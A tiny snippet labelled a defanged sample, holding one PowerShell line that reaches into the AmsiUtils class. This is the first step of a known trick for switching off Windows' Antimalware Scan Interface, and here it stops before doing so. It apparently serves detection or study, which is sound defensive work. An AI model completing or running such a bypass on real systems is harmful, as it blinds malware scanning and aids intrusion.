# defanged sample
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
